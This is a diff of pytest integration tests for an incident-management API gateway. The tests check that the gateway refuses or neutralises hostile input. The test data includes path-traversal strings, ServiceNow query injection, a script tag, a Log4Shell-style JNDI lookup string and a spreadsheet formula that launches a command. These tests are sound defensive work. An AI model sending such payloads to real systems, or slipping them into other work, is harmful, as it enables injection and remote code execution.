@@ -12,6 +12,8 @@ from tests.integration.api.conftest import FIELDS, TABLES, Running, running_api
 from tests.integration.api.gateway import Gateway, Reply
 
 BODY = {"short_description": "The disk is full"}
+FILES = "/incidents/INC0010001/attachments"
+NAMED = {"file_name": "a.txt"}
 _numbers = count(1)
 
 
@@ -42,6 +44,12 @@ def _uncalled(servicenow: Simulator) -> Iterator[None]:
     assert len(servicenow.calls) == calls
 
 
+def refused(reply: Reply, status: int, kind: str, *words: str) -> None:
+    """Check that a request is refused in these words."""
+    assert (reply.status, reply.kind) == (status, kind)
+    assert all(word in reply.text for word in words)
+
+
 def create(api: Gateway, body: object, **changes: object) -> Reply:
     """Create an incident, with a key of its own."""
     return api.call("POST", "/incidents", body, key=f"k{next(_numbers)}", **changes)  # type: ignore[arg-type]
@@ -51,43 +59,27 @@ def create(api: Gateway, body: object, **changes: object) -> Reply:
 @pytest.mark.parametrize(
     "body",
     [
-        "",
-        "{",
-        "nonsense",
-        '{"short_description": NaN}',
-        '"text"',
-        "[]",
-        '[{"short_description": "in a list"}]',
-        "null",
-        '{"short_description": "x"} trailing',
-        b"\xff\xfe{}",
-        "[" * 100_000,
-        '{"a":' * 30 + "1" + "}" * 30,
+        *("", "{", "nonsense", '"text"', "[]", "null", '{"short_description": NaN}'),
+        *('[{"short_description": "in a list"}]', '{"short_description": "x"} trailing', b"\xff\xfe{}"),
+        *("[" * 100_000, '{"a":' * 30 + "1" + "}" * 30, '{"short_description": "\\ud83d"}'),
     ],
-    ids=["empty", "cut", "words", "NaN", "a text", "a list", "a list of one", "null", "two", "no UTF-8", "deep", "30"],
+    ids=lambda body: repr(body[:40]),
 )
 def test_86_a_body_that_is_no_json_object_is_refused(api: Gateway, body: str | bytes) -> None:
-    """400, whatever is wrong with it, and no call."""
-    reply = create(api, body)
-
-    assert (reply.status, reply.kind) == (400, "invalid-request")
+    """400, whatever is wrong with it, and no call. Fault 83: no text can hold half a surrogate pair."""
+    refused(create(api, body), 400, "invalid-request")
 
 
+@pytest.mark.usefixtures("_uncalled")
+@pytest.mark.parametrize(("path", "media_type"), [("/incidents", "application/json"), (FILES, "text/plain")])
 @pytest.mark.parametrize("body", ["@@@@", "YWJj=", "YW Jj", "ü", "YWJ"])
-def test_87_bad_base64_is_refused(api: Gateway, body: str) -> None:
+def test_87_bad_base64_is_refused(api: Gateway, path: str, media_type: str, body: str) -> None:
     """400 for JSON and for files."""
-    for path, media_type in (("/incidents", "application/json"), ("/incidents/INC0010001/attachments", "text/plain")):
-        reply = api.call(
-            "POST",
-            path,
-            "",
-            key="k",
-            headers={"Content-Type": media_type},
-            query={"file_name": "a.txt"} if "attach" in path else {},
-            changes={"body": body, "isBase64Encoded": True},
-        )
-        assert (reply.status, reply.kind) == (400, "invalid-request")
-        assert "base64" in reply.json["detail"]
+    changes = {"body": body, "isBase64Encoded": True}
+    query = NAMED if path == FILES else {}
+    reply = api.call("POST", path, "", key="k", headers={"Content-Type": media_type}, query=query, changes=changes)
+
+    refused(reply, 400, "invalid-request", "base64")
 
 
 @pytest.mark.usefixtures("_uncalled")
@@ -98,8 +90,7 @@ def test_88_a_body_that_is_too_large_is_refused(api: Gateway, *, encoded: bool) 
 
     reply = create(api, text) if encoded else create(api, text, changes={"body": text, "isBase64Encoded": False})
 
-    assert (reply.status, reply.kind) == (413, "too-large")
-    assert str(JSON_LIMIT) in reply.json["detail"]
+    refused(reply, 413, "too-large", str(JSON_LIMIT))
 
 
 def test_88_a_file_may_be_as_large_as_documented_and_no_larger(api: Gateway, servicenow: Simulator) -> None:
@@ -115,6 +106,7 @@ def test_88_a_file_may_be_as_large_as_documented_and_no_larger(api: Gateway, ser
     assert [row["size_bytes"] for row in servicenow.records("sys_attachment")] == [str(FILE_LIMIT)]
 
 
+@pytest.mark.usefixtures("_uncalled")
 @pytest.mark.parametrize(
     "media_type", ["", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/jsonx"]
 )
@@ -122,87 +114,59 @@ def test_89_another_content_type_is_refused(api: Gateway, media_type: str) -> No
     """415, and what to send instead."""
     reply = create(api, json.dumps(BODY), headers={"Content-Type": media_type})
 
-    assert (reply.status, reply.kind) == (415, "unsupported-media-type")
-    assert "application/json" in reply.json["action"]
+    refused(reply, 415, "unsupported-media-type", "application/json")
 
 
+@pytest.mark.usefixtures("_uncalled")
 @pytest.mark.parametrize("media_type", ["text/html", "image/svg+xml", "application/x-msdownload", ""])
 def test_89_files_that_a_browser_or_a_machine_would_run_are_refused(api: Gateway, media_type: str) -> None:
     """415, with the list of what may be attached."""
-    number = create(api, BODY).json["number"]
+    reply = api.call("POST", FILES, b"<script>", headers={"Content-Type": media_type}, query={"file_name": "a.png"})
 
-    reply = api.call(
-        "POST",
-        f"/incidents/{number}/attachments",
-        b"<script>",
-        headers={"Content-Type": media_type},
-        query={"file_name": "a.png"},
-    )
-
-    assert (reply.status, reply.kind) == (415, "unsupported-media-type")
+    refused(reply, 415, "unsupported-media-type", "image/png")
 
 
+@pytest.mark.usefixtures("_uncalled")
 @pytest.mark.parametrize("name", ["../etc/passwd", "a\\b", "a\nb", "", "x" * 101, "...", "nul\x00"])
 def test_a_file_name_with_a_path_is_refused(api: Gateway, name: str) -> None:
     """400, and nothing is attached."""
-    number = create(api, BODY).json["number"]
-    path = f"/incidents/{number}/attachments"
+    reply = api.call("POST", FILES, b"x", headers={"Content-Type": "text/plain"}, query={"file_name": name})
 
-    reply = api.call("POST", path, b"x", headers={"Content-Type": "text/plain"}, query={"file_name": name})
-
-    assert (reply.status, reply.kind) == (400, "invalid-request")
+    refused(reply, 400, "invalid-request")
 
 
 @pytest.mark.usefixtures("_uncalled")
 @pytest.mark.parametrize(
     "path",
     [
-        "/incidents/../tables/sys_user/records",
-        "/incidents/..%2f..%2fapi",
-        "/incidents/%2e%2e/x",
-        "/incidents//INC0010001",
-        "/incidents/..\\x",
-        "/incidents/INC0010001%00",
+        *("/incidents/../tables/sys_user/records", "/incidents/..%2f..%2fapi", "/incidents/%2e%2e/x"),
+        *("/incidents//INC0010001", "/incidents/..\\x", "/incidents/INC0010001%00"),
+        *("/incidents/INC1^ORactive=true", "/incidents/inc0010001", f"/incidents/{'x' * 32}"),
+        *("/incidents/javascript:gs.log()", "/incidents/INC"),
     ],
 )
-def test_91_a_path_that_climbs_is_refused(api: Gateway, path: str) -> None:
+def test_91_a_path_that_climbs_or_names_no_record_reaches_no_query(api: Gateway, path: str) -> None:
     """400, written plainly or encoded."""
-    reply = api.call("GET", path)
-
-    assert (reply.status, reply.kind) == (400, "invalid-request")
-
-
-@pytest.mark.usefixtures("_uncalled")
-@pytest.mark.parametrize("identifier", ["INC1^ORactive=true", "inc0010001", "x" * 32, "javascript:gs.log()", "INC"])
-def test_an_identifier_that_is_none_reaches_no_query(api: Gateway, identifier: str) -> None:
-    """400 before anything is called."""
-    reply = api.call("GET", f"/incidents/{identifier}")
-
-    assert (reply.status, reply.kind) == (400, "invalid-request")
+    refused(api.call("GET", path), 400, "invalid-request")
 
 
 @pytest.mark.usefixtures("_uncalled")
 @pytest.mark.parametrize("path", ["/incidents", "/health", "/tables/cmdb_ci/records"])
 def test_92_a_request_that_nobody_signed_is_refused_even_behind_the_gateway(api: Gateway, path: str) -> None:
     """403: a gateway without an authoriser would let it through, the function does not."""
-    reply = api.call("GET", path, caller=None)
-
-    assert (reply.status, reply.kind) == (403, "forbidden")
+    refused(api.call("GET", path, caller=None), 403, "forbidden")
 
 
 @pytest.mark.usefixtures("_uncalled")
-def test_a_create_without_a_key_is_refused(api: Gateway) -> None:
-    """400 that names the header, for incidents and for records of tables."""
-    for path, body in (("/incidents", BODY), ("/tables/cmdb_ci/records", {"name": "x"})):
-        reply = api.call("POST", path, body)
-        assert reply.status == 400
-        assert reply.json["errors"] == [{"location": "header/idempotency-key", "reason": "missing"}]
+@pytest.mark.parametrize(("path", "body"), [("/incidents", BODY), ("/tables/cmdb_ci/records", {"name": "x"})])
+def test_a_create_without_a_key_is_refused(api: Gateway, path: str, body: dict[str, str]) -> None:
+    """400 that names the header, for incidents and for records of tables; a key is 1 to 255 visible characters."""
+    reply = api.call("POST", path, body)
 
-
-@pytest.mark.parametrize("key", ["", "x" * 256, "two words", "tab\t", "ü"])
-def test_a_key_that_is_none_is_refused(api: Gateway, key: str) -> None:
-    """1 to 255 visible ASCII characters."""
-    assert api.call("POST", "/incidents", BODY, key=key).status == 400
+    refused(reply, 400, "invalid-request")
+    assert reply.json["errors"] == [{"location": "header/idempotency-key", "reason": "missing"}]
+    for key in ("", "x" * 256, "two words", "tab\t", "ü"):
+        refused(api.call("POST", path, body, key=key), 400, "invalid-request", "idempotency-key")
 
 
 @pytest.mark.usefixtures("_uncalled")
@@ -224,41 +188,30 @@ def test_81_a_field_of_the_wrong_shape_is_refused(api: Gateway, change: dict[str
     """400 that names the place, and never repeats the value."""
     reply = create(api, BODY | change)
 
-    assert (reply.status, reply.kind) == (400, "invalid-request")
+    refused(reply, 400, "invalid-request")
     assert [error["location"] for error in reply.json["errors"]] == [location]
 
 
 def test_a_value_longer_than_its_column_is_refused_instead_of_cut(api: Gateway) -> None:
     """The names of fields that the deployment adds are known to the function alone."""
-    reply = create(api, BODY | {"category": "x" * 256})
-
-    assert (reply.status, "255" in reply.json["detail"]) == (400, True)
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "emoji 🔥 größe 測試",
-        "مرحبا right to left",
-        "^ORnumber=INC0000001^NQ",
-        "<script>alert(1)</script>",
-        "${jndi:ldap://example.com/a}",
-        '=cmd|" /C calc"!A0',
-        "a\tb",
-    ],
-)
-def test_84_text_that_others_would_run_is_stored_as_text(api: Gateway, servicenow: Simulator, text: str) -> None:
-    """What looks like a query, a page, a look-up or a formula is kept as it is."""
-    reply = create(api, BODY | {"description": text})
-
-    assert reply.status == 201
-    row = servicenow.records("incident")[-1]
-    assert row["description"] == text
+    refused(create(api, BODY | {"category": "x" * 256}), 400, "invalid-request", "255")
 
 
 @pytest.mark.parametrize(
     ("text", "stored"),
     [
+        *(
+            (text, text)
+            for text in (
+                "emoji 🔥 größe 測試",
+                "مرحبا right to left",
+                "^ORnumber=INC0000001^NQ",
+                "<script>alert(1)</script>",
+                "${jndi:ldap://example.com/a}",
+                '=cmd|" /C calc"!A0',
+                "a\tb",
+            )
+        ),
         ("NUL \x00 and bell \x07", "NUL  and bell"),
         ("two\r\nlines", "two\nlines"),
         ("[code]<b>bold</b>[/code]", "[ code]<b>bold</b>[/ code]"),
@@ -266,43 +219,35 @@ def test_84_text_that_others_would_run_is_stored_as_text(api: Gateway, serviceno
         ("turned \u202e around", "turned  around"),
     ],
 )
-def test_83_text_that_would_do_something_is_made_inert(
+def test_83_84_text_is_stored_as_text_and_what_would_do_something_made_inert(
     api: Gateway, servicenow: Simulator, text: str, stored: str
 ) -> None:
-    """Control characters, markup of journal fields and scripts lose their effect."""
+    """A query, a page, a look-up or a formula is kept; control characters, markup and scripts lose their effect."""
     assert create(api, BODY | {"description": text}).status == 201
     row = servicenow.records("incident")[-1]
     assert row["description"] == stored
 
 
 @pytest.mark.usefixtures("_uncalled")
-def test_83_half_a_surrogate_pair_is_refused(api: Gateway) -> None:
-    """JSON can write it, no text can hold it."""
-    reply = create(api, '{"short_description": "\\ud83d"}')
-
-    assert (reply.status, reply.kind) == (400, "invalid-request")
-
-
-@pytest.mark.usefixtures("_uncalled")
-def test_an_unknown_parameter_is_refused(api: Gateway) -> None:
-    """A raw query, or a misspelt filter, must not list everything."""
-    for path, name in (
+@pytest.mark.parametrize(
+    ("path", "name"),
+    [
         ("/incidents", "sysparm_query"),
         ("/incidents", "sate"),
         ("/tables/cmdb_ci/records", "name"),
         ("/health", "depth"),
-    ):
-        reply = api.call("GET", path, query={name: "1"})
-        assert (reply.status, reply.kind) == (400, "invalid-request")
-        assert name in reply.json["detail"]
+    ],
+)
+def test_an_unknown_parameter_is_refused(api: Gateway, path: str, name: str) -> None:
+    """A raw query, or a misspelt filter, must not list everything."""
+    refused(api.call("GET", path, query={name: "1"}), 400, "invalid-request", name)
 
 
+@pytest.mark.usefixtures("_uncalled")
 def test_a_parameter_that_is_given_twice_is_refused(api: Gateway) -> None:
     """Which of them counts would be anybody's guess."""
     changes = {"multiValueQueryStringParameters": {"state": ["new", "open"]}}
-    reply = api.call("GET", "/incidents", query={"state": "new"}, changes=changes)
-
-    assert (reply.status, reply.kind) == (400, "invalid-request")
+    refused(api.call("GET", "/incidents", query={"state": "new"}, changes=changes), 400, "invalid-request")
 
 
 @pytest.mark.parametrize(
@@ -311,17 +256,13 @@ def test_a_parameter_that_is_given_twice_is_refused(api: Gateway) -> None:
 )
 def test_what_does_not_exist_is_not_found(api: Gateway, method: str, path: str) -> None:
     """404, as a problem that says how /changes would be there."""
-    reply = api.call(method, path, {} if method == "POST" else None)
-
-    assert (reply.status, reply.kind) == (404, "not-found")
-    assert "ChangeGate" in reply.json["action"]
+    refused(api.call(method, path, {} if method == "POST" else None), 404, "not-found", "ChangeGate")
 
 
 def test_a_form_of_a_change_without_any_field_is_refused(api: Gateway) -> None:
     """There would be nothing to do."""
     number = create(api, BODY).json["number"]
 
-    assert api.call("PATCH", f"/incidents/{number}", {}).status == 400
-    assert api.call("POST", f"/incidents/{number}/comments", {"text": ""}).status == 400
-    assert api.call("POST", f"/incidents/{number}/comments", {"text": "\x00\x07"}).status == 400
-    assert api.call("POST", f"/incidents/{number}/comments", {"text": "x", "more": "y"}).status == 400
+    refused(api.call("PATCH", f"/incidents/{number}", {}), 400, "invalid-request")
+    for note in ({"text": ""}, {"text": "\x00\x07"}, {"text": "x", "more": "y"}):
+        refused(api.call("POST", f"/incidents/{number}/comments", note), 400, "invalid-request")
